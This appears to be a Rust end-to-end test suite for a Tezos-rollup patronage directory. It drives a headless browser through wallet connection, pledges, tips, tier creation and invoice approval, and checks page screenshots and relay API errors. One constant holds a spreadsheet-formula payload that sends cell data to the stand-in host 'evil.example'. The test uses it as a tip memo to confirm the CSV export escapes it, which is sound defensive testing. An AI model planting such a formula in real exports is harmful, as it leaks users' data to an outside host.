//! The directory's pages as people use them: headless Chromium on a whole
//! stack (`up`'s code: sandbox, indexer, directory relaying to the node),
//! with a test wallet behind Beacon's `requestPermissions` and
//! `requestSignPayload` that signs with real keys.
//!
//! One browser and one stack carry every scenario: connect; pledge to a
//! tier by clicking, then find the pledge in the mirror and in
//! `pledgeroll status`; cancel it from "My pledges"; a declined signature
//! sends nothing; an overspend is refused with its reason shown; a creator
//! adds a tier in the studio; a commissioner's approval pays an invoice.
//! Then every page of the directory (home, creators and their sort,
//! creator, patron, studio, projects, project, ledger, about, an error) is
//! photographed at 1280 and 390 px into `target/screenshots/` and checked:
//! its footer names the rollup and the hash of the kernel the node runs,
//! and nothing in the picture reaches past the window's right edge. The stack runs
//! `kernel.wasm`, so the node keeps the kernel whose hash the footer shows.

#![allow(clippy::indexing_slicing, clippy::panic)]

use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Duration;

use pledgeroll_client::{PublicKeyOrAddress, Request};
use pledgeroll_contracts::crypto::blake2b_256;
use pledgeroll_contracts::encoding::List;
use pledgeroll_contracts::escrow::{Mode, ProjectOperation};
use pledgeroll_contracts::signing::SecretKey;
use pledgeroll_contracts::state::Profile;
use pledgeroll_contracts::units::{DAY, HOUR};
use pledgeroll_contracts::{Operation, ProjectId};
use pledgeroll_tests::browser::{Answer, Browser};
use pledgeroll_tests::{address, key, text, Database, Kernel, Stack, UNIT};
use serde_json::Value;

/// How long a page may take to show a receipt: a level, then the mirror.
const RECEIPT: Duration = Duration::from_secs(60);
/// A tip memo that a spreadsheet would run as a formula.
const FORMULA: &str = r#"=HYPERLINK("http://evil.example/?leak="&A1,"click")"#;

/// How long a page may take to ask for a signature.
const ASK: Duration = Duration::from_secs(20);

/// Where the screenshots go: `target/screenshots`.
fn screenshots() -> PathBuf {
    let dir = Path::new(env!("CARGO_TARGET_TMPDIR"))
        .parent()
        .unwrap_or_else(|| panic!("the target folder"))
        .join("screenshots");
    std::fs::create_dir_all(&dir).unwrap_or_else(|e| panic!("{}: {e}", dir.display()));
    dir
}

/// What every page's footer names: the rollup's address, as its node
/// gives it, and the first 16 hex digits of the blake2b-256 hash of
/// `kernel.wasm`, the kernel the node runs.
struct Identity {
    rollup: String,
    kernel: String,
}

async fn identity(stack: &Stack) -> Identity {
    let url = format!("{}/global/smart_rollup_address", stack.node_url());
    let rollup: String = reqwest::get(&url)
        .await
        .unwrap_or_else(|e| panic!("GET {url}: {e}"))
        .json()
        .await
        .unwrap_or_else(|e| panic!("GET {url}: {e}"));
    assert!(rollup.starts_with("sr1"), "the rollup's address: {rollup}");
    let kernel = hex::encode(blake2b_256(&pledgeroll_tests::kernel_wasm()))[..16].to_owned();
    Identity { rollup, kernel }
}

/// Finds what makes the page wider than `__WIDTH__` CSS pixels: the
/// innermost elements reaching past that edge outside any scrolling box.
const OVERFLOW: &str = r#"
  const limit = __WIDTH__ + 0.5;
  const scrolls = (e) => ['auto', 'scroll', 'hidden', 'clip'].includes(getComputedStyle(e).overflowX);
  const contained = (e) => {
    for (let a = e.parentElement; a && a !== document.body; a = a.parentElement) {
      if (scrolls(a)) return true;
    }
    return false;
  };
  const culprits = [];
  for (const e of document.body.querySelectorAll('*')) {
    if (e.getBoundingClientRect().right <= limit || contained(e)) continue;
    if ([...e.children].some((c) => c.getBoundingClientRect().right > limit)) continue;
    const classes = typeof e.className === 'string' && e.className.trim() ? '.' + e.className.trim().split(/\s+/).join('.') : '';
    const text = (e.textContent || '').trim().replace(/\s+/g, ' ').slice(0, 60);
    culprits.push(`${e.tagName.toLowerCase()}${classes} to ${Math.round(e.getBoundingClientRect().right)} px: ${text}`);
  }
  return { scrollWidth: document.documentElement.scrollWidth, culprits: culprits.slice(0, 8) };
"#;

/// Photographs the current page as `name` at a desktop's and a phone's
/// width, and checks it: its footer names the rollup, its kernel and the
/// indexed level (`identity`; `None` for a page without them, an error),
/// and in each picture nothing reaches past the window's right edge.
async fn photograph(browser: &Browser, name: &str, identity: Option<&Identity>) {
    if let Some(identity) = identity {
        let footer = browser.text("footer p.identity").await;
        let prefix = format!(
            "Rollup {} · kernel {} · indexed level ",
            identity.rollup, identity.kernel
        );
        let level = footer
            .strip_prefix(&prefix)
            .and_then(|rest| rest.strip_suffix(" · how to check"))
            .and_then(|level| level.parse::<u32>().ok());
        assert!(
            level.is_some_and(|level| level > 0),
            "{name}'s footer names the rollup, the kernel's hash and the indexed level: {footer:?}"
        );
    }
    for width in [1280, 390] {
        let path = screenshots().join(format!("{name}-{width}.png"));
        let script = OVERFLOW.replace("__WIDTH__", &width.to_string());
        let overflow = browser.screenshot_and_run(&path, width, &script).await;
        let png = std::fs::read(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
        assert_eq!(&png[1..4], b"PNG", "{} is a PNG", path.display());
        let png_width = u32::from_be_bytes([png[16], png[17], png[18], png[19]]);
        assert_eq!(png_width, width, "{} is {width} px wide", path.display());
        let scroll_width = overflow["scrollWidth"]
            .as_u64()
            .unwrap_or_else(|| panic!("{name}'s width at {width} px: {overflow}"));
        assert!(
            scroll_width <= u64::from(width),
            "{name} is {scroll_width} px wide in a {width} px window ({}); past the edge: {}",
            path.display(),
            overflow["culprits"]
        );
    }
}

/// Connects `who`'s wallet on the current page (after forgetting any
/// account connected before).
async fn connect(browser: &Browser, who: &SecretKey) {
    let a = address(who).to_string();
    browser
        .install_test_wallet(&a, &who.public_key().to_string())
        .await;
    let page = browser.url().await;
    browser.goto(&page).await;
    if browser.exists("#wallet-account:not([hidden])").await
        && browser.text("#wallet-address").await != a
    {
        browser.click("#wallet-disconnect").await;
    }
    if browser.text("#wallet-address").await != a {
        browser.click("#wallet-connect").await;
    }
    browser.wait_for_text("#wallet-address", &a, ASK).await;
}

/// Submits the form `form` (a CSS selector), checks the wallet is asked to
/// sign exactly `expected` (words and bytes) with MICHELINE signing, signs
/// with `who`, and waits for the page to say `outcome` ("Applied" or
/// "Failed"); returns the status text.
async fn sign_action(
    stack: &Stack,
    browser: &Browser,
    form: &str,
    who: &SecretKey,
    expected: &Request,
    outcome: &str,
) -> String {
    let signer = PublicKeyOrAddress::Key(who.public_key());
    let op = expected
        .operation(&stack.wallet, &address(who))
        .await
        .unwrap_or_else(|e| panic!("{expected:?}: {e}"));
    let unsigned = stack
        .wallet
        .unsigned(&signer, &op)
        .await
        .unwrap_or_else(|e| panic!("{expected:?}: {e}"));
    let bytes = unsigned.statement.bytes();
    browser.click(&format!("{form} button[type=submit]")).await;
    let asked = browser.next_sign_request(ASK).await;
    assert_eq!(
        asked.signing_type, "micheline",
        "Beacon's MICHELINE signing"
    );
    assert_eq!(
        asked.payload,
        hex::encode(&bytes),
        "the wallet signs exactly the statement's bytes"
    );
    assert_eq!(asked.source_address, Some(address(who).to_string()));
    let words = browser.text(&format!("{form} .action-words")).await;
    assert_eq!(
        words,
        unsigned.statement.text(),
        "the page shows the words signed"
    );
    browser
        .answer_sign_request(Answer::Signature(who.sign(&bytes).to_string()))
        .await;
    browser
        .wait_for_text(&format!("{form} .action-status"), outcome, RECEIPT)
        .await
}

/// `pledgeroll status ADDRESS --json` against the stack's node.
fn status(stack: &Stack, who: &str) -> Value {
    let exe = std::env::current_exe().unwrap_or_else(|e| panic!("test binary: {e}"));
    let bin_dir = exe
        .parent()
        .and_then(Path::parent)
        .unwrap_or_else(|| panic!("target/debug"));
    let wallet = bin_dir.join("pledgeroll");
    if !wallet.exists() {
        let built = Command::new(env!("CARGO"))
            .args([
                "build",
                "-q",
                "-p",
                "pledgeroll-client",
                "--bin",
                "pledgeroll",
            ])
            .status()
            .unwrap_or_else(|e| panic!("cargo build: {e}"));
        assert!(built.success(), "the pledgeroll wallet builds");
    }
    let home = tempfile::tempdir().unwrap_or_else(|e| panic!("home: {e}"));
    let out = Command::new(&wallet)
        .args(["--node", &stack.node_url(), "--json", "status", who])
        .env("PLEDGEROLL_HOME", home.path())
        .output()
        .unwrap_or_else(|e| panic!("{}: {e}", wallet.display()));
    assert!(
        out.status.success(),
        "pledgeroll status: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("status JSON: {e}"))
}

/// A creator with a tier, a funded patron, and a project whose invoice
/// waits on one more approval.
struct World {
    creator: SecretKey,
    patron: SecretKey,
    commissioners: [SecretKey; 2],
    tier: u64,
    project: ProjectId,
}

async fn world(stack: &Stack) -> World {
    let creator = key("browser-creator");
    let patron = key("browser-patron");
    let commissioners = [key("browser-commissioner-1"), key("browser-commissioner-2")];
    for k in [&creator, &patron, &commissioners[0], &commissioners[1]] {
        stack.deposit(&address(k), "tez", 100 * UNIT).await;
    }
    stack
        .send(
            &creator,
            Operation::SetProfile {
                profile: Profile {
                    name: text("Lena Brandt"),
                    description: text("Field recordings from the Baltic coast."),
                    links: List::default(),
                },
            },
        )
        .await;
    let added = stack
        .send(
            &creator,
            Operation::AddTier {
                title: text("Listener"),
                perks: text("Every recording, a week early."),
                asset: pledgeroll_tests::TEZ,
                amount_per_period: 3 * UNIT,
                period: 30 * 24 * 3600,
                patron_limit: None,
            },
        )
        .await;
    let tier = match added.receipt.and_then(|r| r.outcome.created()) {
        Some(pledgeroll_contracts::Created::Tier { tier }) => tier.0,
        other => panic!("the tier's id: {other:?}"),
    };
    let now = stack.now().await;
    let created = stack
        .send(
            &commissioners[0],
            Operation::Project {
                op: ProjectOperation::Create {
                    title: text("Tide gauge firmware"),
                    description: text("Open firmware for the harbour's tide gauge."),
                    link: None,
                    commissioners: List::new(commissioners.iter().map(address).collect())
                        .unwrap_or_else(|_| panic!("two commissioners")),
                    threshold: 2,
                    mode: Mode::Public,
                    time_lock: Some(HOUR),
                    refund_deadline: now + 90 * DAY,
                },
            },
        )
        .await;
    let project = match created.receipt.and_then(|r| r.outcome.created()) {
        Some(pledgeroll_contracts::Created::Project { project }) => project,
        other => panic!("the project's id: {other:?}"),
    };
    for (who, request) in [
        (
            &patron,
            Request::Fund {
                project: project.0,
                amount: "40 tez".into(),
            },
        ),
        (
            &commissioners[0],
            Request::OpenTicket {
                project: project.0,
                title: "Calibrate the sensor".into(),
                url: None,
                budget: Some("20 tez".into()),
            },
        ),
        (
            &commissioners[0],
            Request::CloseTicket {
                project: project.0,
                ticket: 0,
            },
        ),
        (
            &commissioners[0],
            Request::RaiseInvoice {
                project: project.0,
                ticket: 0,
                amount: "15 tez".into(),
                beneficiary: address(&creator).to_string(),
            },
        ),
    ] {
        let op = request
            .operation(&stack.wallet, &address(who))
            .await
            .unwrap_or_else(|e| panic!("{request:?}: {e}"));
        stack.send(who, op).await;
    }
    stack.mirrored().await;
    World {
        creator,
        patron,
        commissioners,
        tier,
        project,
    }
}

/// `POST`s `body` to the directory's `path`; the status and the JSON
/// answer.
async fn post(stack: &Stack, path: &str, body: Value) -> (u16, Value) {
    let url = format!("{}{path}", stack.directory_url());
    let r = reqwest::Client::new()
        .post(&url)
        .json(&body)
        .send()
        .await
        .unwrap_or_else(|e| panic!("POST {url}: {e}"));
    let status = r.status().as_u16();
    let answer = r.json().await.unwrap_or_else(|e| panic!("POST {url}: {e}"));
    (status, answer)
}

/// The builder and relay refuse what is wrong in words, and relay what
/// is right exactly once.
async fn the_relay_answers_in_words(stack: &Stack, w: &World) {
    let patron_key = w.patron.public_key().to_string();
    let stranger = key("browser-stranger");
    for (body, says) in [
        (
            serde_json::json!({"signer": patron_key, "operation": {"kind": "mint"}}),
            "unknown variant `mint`",
        ),
        (
            serde_json::json!({"signer": patron_key, "operation": {"kind": "pledge", "tier": 999}}),
            "there is no tier 999",
        ),
        (
            serde_json::json!({"signer": patron_key, "operation": {"kind": "tip", "to": address(&w.creator).to_string(), "amount": "5 euro"}}),
            "no asset named `euro`",
        ),
        (
            serde_json::json!({"signer": address(&stranger).to_string(), "operation": {"kind": "pause_creator"}}),
            "send the public key as the signer",
        ),
        (
            serde_json::json!({"signer": "tz1nope", "operation": {"kind": "pause_creator"}}),
            "neither a public key nor",
        ),
    ] {
        let (status, answer) = post(stack, "/api/v1/operations/build", body.clone()).await;
        assert_eq!(status, 400, "{body}: {answer}");
        let error = answer["error"].as_str().unwrap_or_default();
        assert!(error.contains(says), "{body}: {error}");
    }
    // A pledge the signer's balance cannot carry for a week is built
    // with a warning saying so.
    stack.deposit(&address(&stranger), "tez", UNIT / 2).await;
    let (status, built) = post(
        stack,
        "/api/v1/operations/build",
        serde_json::json!({"signer": stranger.public_key().to_string(), "operation": {"kind": "pledge", "tier": w.tier}}),
    )
    .await;
    assert_eq!(status, 200, "{built}");
    let warning = built["warning"].as_str().unwrap_or_default();
    assert!(
        warning.contains("your tez runs out in 5 days") && warning.contains("until you deposit"),
        "{built}"
    );
    assert_eq!(built["reveal"], true, "{built}");
    // A tip built for the patron, signed by someone else, then by the
    // patron: the first is refused before it reaches the rollup, the
    // second relayed once and refused the second time.
    let (status, built) = post(
        stack,
        "/api/v1/operations/build",
        serde_json::json!({"signer": patron_key, "operation": {"kind": "tip", "to": address(&w.creator).to_string(), "amount": "1 tez", "memo": FORMULA}}),
    )
    .await;
    assert_eq!(status, 200, "{built}");
    let bytes = hex::decode(built["bytes_to_sign"].as_str().unwrap_or_default())
        .unwrap_or_else(|e| panic!("hex: {e}"));
    let submit = |signature: String| serde_json::json!({"unsigned": built["unsigned"], "signature": signature, "public_key": patron_key});
    for (body, says) in [
        (submit("edsig".into()), "not a Tezos signature"),
        (
            submit(stranger.sign(&bytes).to_string()),
            "the signature is not over this operation's statement",
        ),
    ] {
        let (status, answer) = post(stack, "/api/v1/operations/submit", body).await;
        assert_eq!(status, 400, "{answer}");
        assert!(
            answer["error"].as_str().unwrap_or_default().contains(says),
            "{answer}"
        );
    }
    let signed = submit(w.patron.sign(&bytes).to_string());
    let (status, relayed) = post(stack, "/api/v1/operations/submit", signed.clone()).await;
    assert_eq!(status, 202, "{relayed}");
    let hash = relayed["hash"].as_str().unwrap_or_default().to_owned();
    stack.advance(1).await;
    stack.mirrored().await;
    let receipt = stack.api(&format!("/api/v1/operations/{hash}")).await;
    assert_eq!(receipt["outcome"], "applied", "{receipt}");
    let (status, again) = post(stack, "/api/v1/operations/submit", signed).await;
    assert_eq!(status, 400, "a replay is refused: {again}");
    // The memo, a spreadsheet formula, reaches the CSV as text.
    let csv = reqwest::get(format!(
        "{}/ledger.csv?kind=tip&account={}",
        stack.directory_url(),
        address(&w.patron)
    ))
    .await
    .unwrap_or_else(|e| panic!("ledger.csv: {e}"))
    .text()
    .await
    .unwrap_or_else(|e| panic!("ledger.csv: {e}"));
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let memos: Vec<String> = reader
        .records()
        .map(|r| r.unwrap_or_else(|e| panic!("{e}: {csv}"))[13].to_owned())
        .collect();
    assert_eq!(memos, [format!("'{FORMULA}")], "{csv}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_wallet_acts_through_the_directorys_pages() {
    let stack = Stack::start(Database::Sqlite, Kernel::Wasm).await;
    let id = identity(&stack).await;
    let w = world(&stack).await;
    the_relay_answers_in_words(&stack, &w).await;
    let browser = Browser::start().await;
    let dir = stack.directory_url();
    let creator = address(&w.creator).to_string();
    let patron = address(&w.patron).to_string();

    // Without a wallet the page reads fully and shows no action.
    browser.goto(&format!("{dir}/creators/{creator}")).await;
    assert!(browser.exists("#wallet-connect").await);
    assert!(!browser.exists("form.action:not([hidden])").await);

    // Connect, pledge to the tier by clicking.
    connect(&browser, &w.patron).await;
    photograph(&browser, "creator", Some(&id)).await;
    let pledge_form = "form.action[data-op=pledge]";
    let status_text = sign_action(
        &stack,
        &browser,
        pledge_form,
        &w.patron,
        &Request::Pledge {
            tier: w.tier,
            amount: None,
            until: None,
            for_: None,
            cap: None,
        },
        "Applied",
    )
    .await;
    assert!(status_text.starts_with("Applied at level"), "{status_text}");
    stack.mirrored().await;
    let mirrored = stack.api(&format!("/api/v1/patrons/{patron}")).await;
    let pledges = mirrored["pledges"].as_array().cloned().unwrap_or_default();
    assert_eq!(pledges.len(), 1, "the mirror has the pledge: {mirrored}");
    assert_eq!(pledges[0]["tier_id"], w.tier);
    assert_eq!(pledges[0]["status"], "active");
    let pledge_id = pledges[0]["pledge_id"]
        .as_u64()
        .unwrap_or_else(|| panic!("id"));
    let cli = status(&stack, &patron);
    let out = &cli["accounts"][0]["pledges_out"];
    assert_eq!(out[0]["id"], pledge_id, "pledgeroll status shows it: {cli}");
    assert_eq!(out[0]["status"], "active", "{cli}");

    // A declined signature sends nothing.
    let nonce_before = stack
        .wallet
        .account(&address(&w.patron))
        .await
        .unwrap_or_else(|e| panic!("account: {e}"))
        .next_nonce;
    browser.goto(&format!("{dir}/creators/{creator}")).await;
    let tip_form = "form.action[data-op=tip]";
    browser
        .fill(&format!("{tip_form} input[name=amount]"), "2 tez")
        .await;
    browser
        .click(&format!("{tip_form} button[type=submit]"))
        .await;
    browser.next_sign_request(ASK).await;
    browser.answer_sign_request(Answer::Reject).await;
    browser
        .wait_for_text(
            &format!("{tip_form} .action-status"),
            "You declined to sign. Nothing was sent.",
            ASK,
        )
        .await;
    stack.advance(1).await;
    let nonce_after = stack
        .wallet
        .account(&address(&w.patron))
        .await
        .unwrap_or_else(|e| panic!("account: {e}"))
        .next_nonce;
    assert_eq!(nonce_before, nonce_after, "nothing reached the rollup");

    // An overspend is refused, its reason shown in words.
    browser.goto(&format!("{dir}/creators/{creator}")).await;
    browser
        .fill(&format!("{tip_form} input[name=amount]"), "5000 tez")
        .await;
    browser
        .fill(&format!("{tip_form} input[name=memo]"), "all of it")
        .await;
    let refused = sign_action(
        &stack,
        &browser,
        tip_form,
        &w.patron,
        &Request::Tip {
            to: creator.clone(),
            amount: "5000 tez".into(),
            memo: Some("all of it".into()),
        },
        "Failed",
    )
    .await;
    assert!(
        refused.contains("insufficient balance") && refused.contains("Deposit"),
        "{refused}"
    );

    // Cancel the pledge from "My pledges".
    browser.goto(&format!("{dir}/patrons/{patron}")).await;
    photograph(&browser, "patron", Some(&id)).await;
    let cancel = format!(
        "form.action[data-op=cancel_pledge]:has(input[name=pledge][value=\"{pledge_id}\"])"
    );
    sign_action(
        &stack,
        &browser,
        &cancel,
        &w.patron,
        &Request::CancelPledge { pledge: pledge_id },
        "Applied",
    )
    .await;
    stack.mirrored().await;
    let mirrored = stack.api(&format!("/api/v1/patrons/{patron}")).await;
    assert_eq!(mirrored["pledges"][0]["status"], "ended", "{mirrored}");

    // The creator adds a tier in the studio.
    browser.goto(&format!("{dir}/studio/{creator}")).await;
    connect(&browser, &w.creator).await;
    photograph(&browser, "studio", Some(&id)).await;
    let add = "form.action[data-op=add_tier]";
    browser
        .fill(&format!("{add} input[name=title]"), "Patron")
        .await;
    browser
        .fill(&format!("{add} input[name=price]"), "12 tez")
        .await;
    sign_action(
        &stack,
        &browser,
        add,
        &w.creator,
        &Request::AddTier {
            title: "Patron".into(),
            perks: None,
            price: "12 tez".into(),
            period: Some("month".into()),
            patron_limit: None,
        },
        "Applied",
    )
    .await;
    stack.mirrored().await;
    let view = stack.api(&format!("/api/v1/creators/{creator}")).await;
    let titles: Vec<&str> = view["tiers"]
        .as_array()
        .into_iter()
        .flatten()
        .filter_map(|t| t["title"].as_str())
        .collect();
    assert!(titles.contains(&"Patron"), "{titles:?}");

    // The second commissioner's approval pays the invoice.
    browser
        .goto(&format!("{dir}/projects/{}", w.project.0))
        .await;
    connect(&browser, &w.commissioners[1]).await;
    photograph(&browser, "project", Some(&id)).await;
    sign_action(
        &stack,
        &browser,
        "form.action[data-op=approve]",
        &w.commissioners[1],
        &Request::Approve {
            project: w.project.0,
            invoice: 0,
        },
        "Applied",
    )
    .await;
    stack.mirrored().await;
    let project = stack
        .api(&format!("/api/v1/projects/{}", w.project.0))
        .await;
    assert_eq!(project["invoices"][0]["status"], "paid", "{project}");

    // Every other page, with what the scenarios left in the mirror.
    for (name, path) in [
        ("home", "/"),
        ("creators", "/creators"),
        ("creators-income", "/creators?sort=income"),
        ("projects", "/projects"),
        ("ledger", "/ledger"),
        ("about", "/about"),
    ] {
        browser.goto(&format!("{dir}{path}")).await;
        photograph(&browser, name, Some(&id)).await;
    }
    // The about page shows the kernel's whole hash, to compare with
    // `scripts/build-kernel`'s.
    let kernel = hex::encode(blake2b_256(&pledgeroll_tests::kernel_wasm()));
    let about = browser.text("main").await;
    assert!(
        about.contains(&kernel),
        "{kernel} on the about page: {about}"
    );
    // An address with no creator answers the styled error page.
    browser
        .goto(&format!(
            "{dir}/creators/tz1Ke2h7sDdakHJQh8WX4Z372du1KChsksyU"
        ))
        .await;
    assert_eq!(browser.text("main h1").await, "404 Not Found");
    photograph(&browser, "not-found", None).await;
    browser.close().await;
    stack.stop().await;
}
